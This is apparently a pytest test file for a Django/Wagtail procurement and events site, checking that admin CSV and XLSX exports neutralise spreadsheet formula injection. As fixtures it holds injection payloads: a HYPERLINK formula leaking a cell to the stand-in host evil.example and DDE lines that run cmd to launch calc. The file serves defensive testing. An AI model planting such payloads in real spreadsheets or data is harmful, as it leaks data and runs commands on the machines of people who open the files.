"""Every admin listing export (?export=csv / xlsx) writes what users typed as text, not formulas.

A SØV, buyer or partner types a formula into a field; the editor (or the owner) exports the
listing and opens it in a spreadsheet program. CSV cells get a leading apostrophe, as in the
public directory export; XLSX cells are written as text, so they need none.
"""

import csv
import io

import openpyxl
import pytest

from django.contrib.auth.models import Group

from wagtail.admin.viewsets import viewsets as viewset_registry
from wagtail.admin.viewsets.base import ViewSet
from wagtail.models import Locale

from accounts.groups import EDITORS, PARTNERS
from cms.spreadsheets import SafeExportViewSetMixin, safe_cell
from directory.models import TargetGroup
from events.access import ensure_partner_access
from events.models import EventIndexPage, EventPage

from ..events.factories import PartnerFactory, RegistrationFactory, make_event
from ..procurement.factories import (
    BuyerOrganisationFactory,
    make_buyer,
    make_entry,
    make_interest,
    make_supplier,
    make_user,
)

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
COMMAND = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _profiles(home_page):
    profile, owner = make_supplier(LINK, "ejer@soev.example")
    return "directory/supplierprofile", LINK, owner


def _target_groups(home_page):
    TargetGroup.objects.create(
        name=SUM, slug="formel", locale=Locale.objects.get(language_code="da")
    )
    return "directory/targetgroup", SUM, None


def _tender_entries(home_page):
    organisation = BuyerOrganisationFactory(name="Formel Kommune")
    owner = make_buyer("indkoeber@kommune.example", organisation)
    make_entry(organisation, title=COMMAND)
    return "procurement/tenderplanentry", COMMAND, owner


def _interests(home_page):
    entry = make_entry(BuyerOrganisationFactory(name="Formel Kommune"))
    profile, owner = make_supplier("Fornuft ApS", "ejer@soev.example")
    make_interest(entry, profile, owner, message=MINUS)
    return "procurement/interestexpression", MINUS, owner


def _buyer_organisations(home_page):
    BuyerOrganisationFactory(name=TAB)
    return "procurement/buyerorganisation", TAB, None


def _partners(home_page):
    owner = make_user("partner@partner.example", PARTNERS)
    PartnerFactory(name=RETURN).members.add(owner)
    return "events/partner", RETURN, owner


def _registrations(home_page):
    partner = PartnerFactory(name="Hus Forbi")
    owner = make_user("partner@partner.example", PARTNERS)
    partner.members.add(owner)
    index = home_page.add_child(instance=EventIndexPage(title="Arrangementer", slug="arr"))
    ensure_partner_access()
    event = make_event(index, organiser=partner)
    RegistrationFactory(event=event, accessibility_needs=LINK)
    return "events/registration", LINK, owner


LISTINGS = [
    _profiles,
    _target_groups,
    _tender_entries,
    _interests,
    _buyer_organisations,
    _partners,
    _registrations,
]


@pytest.fixture
def editor(db):
    user = make_user("redaktoer@example.dk")
    user.groups.add(Group.objects.get(name=EDITORS))
    return user


def _cases():
    editors_only = {_target_groups, _buyer_organisations}
    return [
        pytest.param(listing, who, id=f"{listing.__name__[1:]}-{who}")
        for listing in LISTINGS
        for who in ("editor", "owner")
        if not (who == "owner" and listing in editors_only)
    ]


def _exporter(listing, who, home_page, editor):
    path, value, owner = listing(home_page)
    return f"/admin/snippets/{path}/", value, editor if who == "editor" else owner


@pytest.mark.parametrize(("listing", "who"), _cases())
def test_csv_export_cells_cannot_become_formulas(client, home_page, editor, listing, who):
    url, value, user = _exporter(listing, who, home_page, editor)
    client.force_login(user)
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + value in cells
    assert [cell for cell in cells if cell.startswith(DANGEROUS)] == []


@pytest.mark.parametrize(("listing", "who"), _cases())
def test_xlsx_export_writes_formulas_as_plain_text(client, home_page, editor, listing, who):
    url, value, user = _exporter(listing, who, home_page, editor)
    client.force_login(user)
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    # openpyxl writes a carriage return as &#13; with lxml (kept) or raw without (read as \n).
    read_back = (value, value.replace("\r", "\n"))
    assert [cell.data_type for cell in cells if cell.value in read_back] == ["s"]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def test_a_control_character_does_not_break_the_xlsx_export(client, home_page, editor):
    _registrations(home_page)
    RegistrationFactory(
        event=EventPage.objects.get(), name="Sofie\x0bHansen", dietary_needs="Ingen\x01"
    )
    client.force_login(editor)
    response = client.get("/admin/snippets/events/registration/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert "SofieHansen" in [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]


def test_every_admin_listing_with_an_export_neutralises_formulas():
    exporting = [
        v
        for v in viewset_registry.viewsets
        if getattr(v, "list_export", ViewSet.UNDEFINED) not in (ViewSet.UNDEFINED, [])
    ]
    assert {v.model._meta.label_lower for v in exporting} == {
        "directory.contactmessage",
        "directory.supplierprofile",
        "directory.targetgroup",
        "procurement.tenderplanentry",
        "procurement.interestexpression",
        "procurement.buyerorganisation",
        "events.partner",
        "events.registration",
    }
    assert [v for v in exporting if not isinstance(v, SafeExportViewSetMixin)] == []


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+45 70 00 00 00", "+45 70 00 00 00"),
        ("-12", "-12"),
        ("Kantine", "Kantine"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_safe_cell(typed, written):
    assert safe_cell(typed) == written
